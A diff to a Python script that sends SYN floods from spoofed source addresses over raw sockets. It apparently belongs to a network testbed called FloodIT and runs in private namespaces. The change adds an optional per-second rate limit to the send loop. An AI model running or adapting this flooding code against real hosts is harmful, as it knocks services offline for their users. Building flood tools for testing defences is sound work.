@@ -1,9 +1,10 @@
 """SYN flood from spoofed sources, for FloodIT (run as root in the client's namespace).
 
-usage: syn_flood.py TARGETS SECONDS MAX_SYNS
+usage: syn_flood.py TARGETS SECONDS MAX_SYNS [RATE]
   TARGETS   comma-separated IPv4 addresses; a repeated address gets a larger share
   SECONDS   send for this long, as fast as the machine allows ...
   MAX_SYNS  ... or until this many SYNs were sent
+  RATE      at most this many SYNs per second (default: no limit)
 
 Each SYN comes from a random address in 10.200.64.0/18 (outside the client's link 10.200.0.0/24
 and the nodes' 10.200.1.0/24, so the real client's connections never collide with it) and a random
@@ -31,6 +32,7 @@ def main():
     targets = [t for t in sys.argv[1].split(",") if t]
     seconds = float(sys.argv[2])
     limit = int(sys.argv[3])
+    rate = float(sys.argv[4]) if len(sys.argv) > 4 else 0.0
     # IPPROTO_RAW implies IP_HDRINCL; Linux fills in the IP checksum, the total length and (when zero) the id.
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
@@ -50,8 +52,13 @@ def main():
     start = time.monotonic()
     deadline = start + seconds
     while sent < limit:
-        if (sent & 1023) == 0 and time.monotonic() > deadline:
-            break
+        if (sent & 255) == 0:
+            now = time.monotonic()
+            if now > deadline:
+                break
+            ahead = sent / rate - (now - start) if rate else 0
+            if ahead > 0:
+                time.sleep(ahead)
         p, base, addr = pkts[sent % n]
         r = rnd.getrandbits(62)
         src = SOURCE_NET | (r & 0x3FFF)
